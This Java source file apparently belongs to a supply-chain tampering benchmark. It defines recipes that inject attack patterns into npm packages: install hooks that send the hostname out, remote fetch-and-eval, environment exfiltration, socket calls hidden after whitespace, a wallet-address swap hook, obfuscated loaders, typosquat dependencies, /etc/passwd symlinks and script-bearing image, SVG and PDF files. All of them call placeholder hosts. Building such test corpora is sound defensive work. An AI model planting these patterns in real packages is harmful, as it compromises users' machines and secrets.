package dev.firebreak.bench.tamper;

import dev.firebreak.bench.tamper.Pack.Entry;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import org.jspecify.annotations.Nullable;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/// Alterations of npm packages.
final class NpmRecipes {
    private static final String SEND =
            "require('https').get('https://stats.example.invalid/c?'+encodeURIComponent(require('os').hostname()));\n";
    private static final String MANIFEST = "package/package.json";
    private static final JsonMapper JSON = JsonMapper.builder().build();

    static final List<Recipe> ALL =
            List.of(
                    new Recipe(
                            "npm-preinstall",
                            p ->
                                    script(p, "preinstall", "node setup.js")
                                            && added(p, "setup.js", SEND)),
                    new Recipe(
                            "npm-postinstall-inline",
                            p ->
                                    script(
                                            p,
                                            "postinstall",
                                            "node -e \"fetch('https://stats.example.invalid')\"")),
                    new Recipe(
                            "npm-install-quiet",
                            p ->
                                    script(p, "postinstall", "node ./lib/postinstall")
                                            && added(
                                                    p,
                                                    "lib/postinstall.js",
                                                    "console.log('thank you');\n")),
                    new Recipe(
                            "npm-gyp-command",
                            p ->
                                    added(
                                                    p,
                                                    "binding.gyp",
                                                    "{\"targets\":[{\"target_name\":\"a\",\"sources\":[\"<!(node lib/tool.js)\"]}]}\n")
                                            && added(p, "lib/tool.js", SEND)),
                    new Recipe(
                            "npm-network-eval",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\nfetch('https://stats.example.invalid/x').then(r=>r.text()).then(eval);\n")),
                    new Recipe(
                            "npm-exec-appended",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\ntry{require('child_'+'process').exec('id')}catch(e){}\n")),
                    new Recipe(
                            "npm-names-by-machine",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\nconst _0x1a2b=['aHR0','cHM6'];(function(_0x3c4d,_0x5e6f){_0x3c4d[_0x5e6f]=_0x1a2b;})(this,'_0x7a8b');\n")),
                    new Recipe(
                            "npm-decode-and-run",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\neval(Buffer.from('"
                                                            + base64("console.log(1);".repeat(40))
                                                            + "','base64').toString());\n")),
                    new Recipe(
                            "npm-far-right",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\nvar q = 1;"
                                                            + " ".repeat(220)
                                                            + "require('net').connect(4444,'stats.example.invalid');\n")),
                    new Recipe(
                            "npm-environment-sent",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\nfetch('https://stats.example.invalid',{method:'POST',body:JSON.stringify(process.env)});\n")),
                    new Recipe(
                            "npm-global-by-pieces",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\nglobalThis['fe'+'tch'](['https:','','stats.example.invalid'].join('/')).then(r=>r.json()).then(j=>globalThis['Fun'+'ction'](j.c)());\n")),
                    new Recipe(
                            "npm-browser-hook",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\nif(typeof window!=='undefined'){const o=window.fetch;window.fetch=async(...a)=>{const r=await o(...a);const t=await r.clone().text();return new Response(t.replace(/0x[a-fA-F0-9]{40}/g,'0x0000000000000000000000000000000000000001'),r)}}\n")),
                    new Recipe(
                            "npm-tls-off",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\nprocess.env.NODE_TLS_REJECT_UNAUTHORIZED='0';\n")),
                    new Recipe(
                            "npm-dependency-git",
                            p -> dependency(p, "git+https://git.example.invalid/mirror.git")),
                    new Recipe(
                            "npm-dependency-url",
                            p -> dependency(p, "https://files.example.invalid/a.tgz")),
                    new Recipe(
                            "npm-dependency-alias",
                            p -> dependency(p, "npm:plain-crypto-x@^1.0.0")),
                    new Recipe("npm-dependency-short-git", p -> dependency(p, "mirror/fork#main")),
                    new Recipe(
                            "npm-dependency-unused",
                            p ->
                                    manifest(
                                            p,
                                            m ->
                                                    m.withObject("/dependencies")
                                                            .put("plain-crypto-x", "^1.0.0"))),
                    new Recipe(
                            "npm-dependency-look-alike",
                            p ->
                                    manifest(
                                                    p,
                                                    m ->
                                                            m.withObject("/dependencies")
                                                                    .put("expresss", "^4.0.0"))
                                            && main(
                                                    p,
                                                    s ->
                                                            s
                                                                    + "\ntry{require('expresss')}catch(e){}\n")),
                    new Recipe(
                            "npm-dependency-optional",
                            p ->
                                    manifest(
                                            p,
                                            m ->
                                                    m.withObject("/optionalDependencies")
                                                            .put("plain-crypto-x", "^1.0.0"))),
                    new Recipe(
                            "npm-bin-shadows",
                            p ->
                                    manifest(p, NpmRecipes::shadow)
                                            && added(
                                                    p,
                                                    "cli-node.js",
                                                    "#!/usr/bin/env node\nconsole.log('x');\n")),
                    new Recipe("npm-main-redirected", NpmRecipes::redirected),
                    new Recipe(
                            "npm-bundled",
                            p ->
                                    manifest(
                                                    p,
                                                    m ->
                                                            m.withArray("/bundledDependencies")
                                                                    .add("tiny-x"))
                                            && added(
                                                    p,
                                                    "node_modules/tiny-x/package.json",
                                                    "{\"name\":\"tiny-x\",\"version\":\"1.0.0\",\"main\":\"index.js\"}")
                                            && added(p, "node_modules/tiny-x/index.js", SEND)),
                    new Recipe(
                            "npm-test-data-run",
                            p ->
                                    data(p)
                                            && main(
                                                    p,
                                                    s ->
                                                            s
                                                                    + "\nconst z=require('zlib'),f=require('fs');new Function(z.inflateRawSync(f.readFileSync(__dirname+'/test/fixtures/large.bin')).toString())();\n")),
                    new Recipe(
                            "npm-test-data-unpacked",
                            p ->
                                    data(p)
                                            && main(
                                                    p,
                                                    s ->
                                                            s
                                                                    + "\ntry{const v=require('v'+'m');v.runInThisContext(require('fs').readFileSync(__dirname+'/test/fixtures/large.bin','latin1'))}catch(e){}\n")),
                    new Recipe(
                            "npm-name-reversed",
                            p -> added(p, "lib/gnp\u202egpj.js", "module.exports=1;\n")),
                    new Recipe(
                            "npm-name-alike",
                            p -> added(p, "\u0456ndex.js", "module.exports=1;\n")),
                    new Recipe(
                            "npm-picture-with-code",
                            p ->
                                    added(p, "lib/logo.png", picture())
                                            && main(
                                                    p,
                                                    s ->
                                                            s
                                                                    + "\nrequire('fs').readFile(__dirname+'/lib/logo.png',()=>{});\n")),
                    new Recipe("npm-script-named-picture", p -> added(p, "lib/logo.png", SEND)),
                    new Recipe(
                            "npm-svg-with-script",
                            p ->
                                    added(
                                            p,
                                            "docs/logo.svg",
                                            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://stats.example.invalid/'+document.cookie)</script></svg>")),
                    new Recipe(
                            "npm-pdf-with-script",
                            p ->
                                    added(
                                            p,
                                            "docs/guide.pdf",
                                            "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\('https://stats.example.invalid'\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")),
                    new Recipe("npm-link-out", p -> link(p, "../../../../etc/passwd")),
                    new Recipe("npm-link-absolute", p -> link(p, "/etc/passwd")),
                    new Recipe("npm-entry-twice", NpmRecipes::twice),
                    new Recipe("npm-host-in-configuration", NpmRecipes::configured),
                    new Recipe(
                            "npm-direction-characters",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\nconst level='user';\nif(level!=='user\u00e2\u0080\u00ae \u00e2\u0081\u00a6// admin\u00e2\u0081\u00a9 \u00e2\u0081\u00a6'){require('fs')}\n")),
                    new Recipe(
                            "npm-prototype",
                            p ->
                                    main(
                                            p,
                                            s ->
                                                    s
                                                            + "\nconst h=require('http');const r=h.request;h.request=function(o){o.headers=Object.assign({},o.headers,{'x-k':Object.keys(process.env).join()});return r.apply(this,arguments)};\n")));

    private NpmRecipes() {}

    private static boolean manifest(Pack p, Consumer<ObjectNode> change) {
        Entry e = p.find(MANIFEST);
        if (e == null || !(JSON.readTree(e.bytes) instanceof ObjectNode root)) {
            return false;
        }
        change.accept(root);
        e.bytes = JSON.writerWithDefaultPrettyPrinter().writeValueAsBytes(root);
        return true;
    }

    private static void shadow(ObjectNode manifest) {
        JsonNode own = manifest.path("bin");
        ObjectNode bin = manifest.putObject("bin");
        if (own.isString()) {
            bin.set(manifest.path("name").asString("x"), own);
        } else {
            own.properties().forEach(e -> bin.set(e.getKey(), e.getValue()));
        }
        bin.put("node", "./cli-node.js");
    }

    private static boolean script(Pack p, String hook, String command) {
        return manifest(p, m -> m.withObject("/scripts").put(hook, command));
    }

    private static boolean added(Pack p, String name, String text) {
        p.add("package/" + name, text);
        return true;
    }

    private static boolean added(Pack p, String name, byte[] bytes) {
        p.add("package/" + name, bytes);
        return true;
    }

    private static @Nullable Entry start(Pack p) {
        Entry e = p.find(MANIFEST);
        if (e == null) {
            return null;
        }
        String main = JSON.readTree(e.bytes).path("main").asString("index.js");
        String path = "package/" + (main.startsWith("./") ? main.substring(2) : main);
        Entry found = p.find(path);
        found = found == null ? p.find(path + ".js") : found;
        found = found == null ? p.find(path + "/index.js") : found;
        return found == null ? p.ending("index.js", "index.cjs", "index.mjs") : found;
    }

    private static boolean main(Pack p, UnaryOperator<String> change) {
        Entry e = start(p);
        if (e != null) {
            e.text(change.apply(e.text()));
        }
        return e != null;
    }

    /// An existing dependency comes from elsewhere.
    private static boolean dependency(Pack p, String spec) {
        Entry e = p.find(MANIFEST);
        if (e == null) {
            return false;
        }
        JsonNode d = JSON.readTree(e.bytes).path("dependencies");
        if (d.isEmpty()) {
            return false;
        }
        String name = d.propertyNames().iterator().next();
        return manifest(p, m -> m.withObject("/dependencies").put(name, spec));
    }

    private static boolean redirected(Pack p) {
        Entry e = start(p);
        if (e == null) {
            return false;
        }
        String real = e.name.substring("package/".length());
        return manifest(p, m -> m.put("main", "./loader.js"))
                && added(
                        p,
                        "loader.js",
                        "const k=process.env;const s=Reflect.get(globalThis,['f','etch'].join(''));\nsetTimeout(()=>s&&s('//stats.example.invalid/'+Object.keys(k)),9e5);\nmodule.exports=require('./"
                                + real
                                + "');\n");
    }

    private static boolean data(Pack p) {
        byte[] bytes = new byte[6000];
        new Random(7).nextBytes(bytes);
        return added(p, "test/fixtures/large.bin", bytes);
    }

    private static boolean link(Pack p, String target) {
        p.link("package/lib/settings", target);
        return true;
    }

    private static boolean twice(Pack p) throws IOException {
        Entry e = start(p);
        if (e == null) {
            return false;
        }
        p.add(e.name, e.text() + "\nmodule.exports.q=1;\n");
        return true;
    }

    /// A configuration file that was there names another host.
    private static boolean configured(Pack p) {
        for (Entry e : p.entries) {
            if (e.file()
                    && (e.name.endsWith(".yml")
                            || e.name.endsWith(".ini")
                            || e.name.endsWith(".json"))
                    && !e.name.endsWith("package.json")
                    && e.text().contains("https://")) {
                e.text(
                        e.text()
                                .replaceFirst(
                                        "https://[A-Za-z0-9.-]+",
                                        "https://updates.example.invalid"));
                return true;
            }
        }
        return false;
    }

    private static byte[] picture() {
        byte[] png =
                Base64.getDecoder()
                        .decode(
                                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
        byte[] tail = ("var x=1;".repeat(60)).getBytes(StandardCharsets.US_ASCII);
        byte[] out = java.util.Arrays.copyOf(png, png.length + tail.length);
        System.arraycopy(tail, 0, out, png.length, tail.length);
        return out;
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
